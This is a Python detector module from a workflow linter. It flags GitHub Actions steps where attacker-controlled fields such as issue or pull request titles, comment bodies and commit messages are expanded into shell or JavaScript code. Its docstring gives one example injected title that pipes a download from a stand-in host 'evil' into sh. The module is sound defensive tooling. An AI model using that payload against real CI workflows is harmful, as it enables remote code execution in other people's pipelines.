"""Expression injection: attacker-controllable `${{ }}` contexts expanded into shell or JS code.

GitHub substitutes `${{ }}` expressions into the script text before the shell runs it, so a pull
request title like `"; curl evil | sh #` becomes code. Safe contexts (numbers, SHAs, ids, step
outcomes) are allowed; the fix is to pass the value through `env:` and quote it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from soc2lint.formats import nodes
from soc2lint.model import Document, Hit

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
CONTEXT = re.compile(
    r"\b(?:github|inputs|steps|needs|env|matrix)(?:\.[A-Za-z0-9_*\-]+|\[[^\]]*\])+"
)

# Fields of webhook payloads that anyone who can open an issue, a pull request or a fork controls.
ATTACKER_CONTROLLED = re.compile(
    r"""^github\.(?:
        head_ref
      | event\.(?:issue|pull_request|discussion)\.(?:title|body)
      | event\.(?:comment|review|review_comment)\.body
      | event\.pull_request\.head\.(?:ref|label|repo\.default_branch)
      | event\.(?:head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:name|email)|committer\.(?:name|email))
      | event\.commits(?:\.\*|\[[^\]]*\])\.(?:message|author\.(?:name|email)|committer\.(?:name|email))
      | event\.workflow_run\.(?:head_branch|display_title|head_repository\.description)
      | event\.pages(?:\.\*|\[[^\]]*\])\.page_name
    )$""",
    re.VERBOSE,
)
INPUT = re.compile(r"^(?:inputs|github\.event\.inputs)\.([A-Za-z0-9_\-]+)$")


def _string_inputs(root: nodes.Node) -> set[str] | None:
    """Names of workflow_dispatch/workflow_call inputs typed as strings (None: no declared inputs)."""
    on = nodes.get(root, "on")
    if on is None or not isinstance(on[1], nodes.MappingNode):
        return None
    names: set[str] = set()
    declared = False
    for trigger in ("workflow_dispatch", "workflow_call"):
        hit = nodes.get(on[1], trigger)
        inputs = nodes.get(hit[1], "inputs") if hit else None
        if inputs is None:
            continue
        for name, _k, spec in nodes.items(inputs[1]):
            declared = True
            kind = nodes.get(spec, "type")
            type_name = (
                kind[1].value if kind and isinstance(kind[1], nodes.ScalarNode) else "string"
            )
            if type_name in ("string", "environment"):
                names.add(name)
    return names if declared else None


def dangerous(context: str, string_inputs: set[str] | None, events: bool, inputs: bool) -> bool:
    if ATTACKER_CONTROLLED.match(context):
        return events
    m = INPUT.match(context)
    if m and inputs:
        return string_inputs is None or m.group(1) in string_inputs
    return False


def _scripts(root: nodes.Node) -> Iterator[tuple[tuple[Any, ...], nodes.ScalarNode]]:
    """(route, scalar) of every `run:` and github-script `script:` in workflow jobs or an action."""
    step_lists: list[tuple[tuple[Any, ...], nodes.Node]] = []
    jobs = nodes.get(root, "jobs")
    if jobs:
        for job_id, _k, job in nodes.items(jobs[1]):
            steps = nodes.get(job, "steps")
            if steps:
                step_lists.append((("jobs", job_id, "steps"), steps[1]))
    runs = nodes.get(root, "runs")
    if runs:
        steps = nodes.get(runs[1], "steps")
        if steps:
            step_lists.append((("runs", "steps"), steps[1]))
    for prefix, steps_node in step_lists:
        if not isinstance(steps_node, nodes.SequenceNode):
            continue
        for i, step in enumerate(steps_node.value):
            run = nodes.get(step, "run")
            if run and isinstance(run[1], nodes.ScalarNode):
                yield prefix + (i, "run"), run[1]
            uses = nodes.get(step, "uses")
            if (
                uses
                and isinstance(uses[1], nodes.ScalarNode)
                and uses[1].value.startswith("actions/github-script@")
            ):
                with_ = nodes.get(step, "with")
                script = nodes.get(with_[1], "script") if with_ else None
                if script and isinstance(script[1], nodes.ScalarNode):
                    yield prefix + (i, "with", "script"), script[1]


def detect(doc: Document, params: Mapping[str, Any], context: Any = None) -> Iterator[Hit]:
    events = bool(params.get("include_events", True))
    # a composite action's inputs come from its caller's workflow, where they are judged
    inputs = bool(params.get("include_inputs", False)) and nodes.get(doc.root, "runs") is None
    string_inputs = _string_inputs(doc.root)
    for route, scalar in _scripts(doc.root):
        cursor = scalar.start_mark.index
        for expr in EXPRESSION.finditer(scalar.value):
            for ctx in CONTEXT.finditer(expr.group(1)):
                context = ctx.group(0)
                if not dangerous(context, string_inputs, events, inputs):
                    continue
                span = _source_span(doc, scalar, expr.group(0), cursor)
                if span:
                    cursor = span[1]
                yield Hit(
                    route,
                    "value",
                    {"expression": expr.group(0).strip(), "context": context, "identity": context},
                    span,
                )
                break


def _source_span(
    doc: Document, scalar: nodes.ScalarNode, needle: str, start: int
) -> tuple[int, int] | None:
    """Offsets of `needle` in the source text within the scalar, if it appears verbatim."""
    text = doc.text
    end = scalar.end_mark.index
    at = text.find(needle, start, end)
    return (at, at + len(needle)) if at >= 0 else None
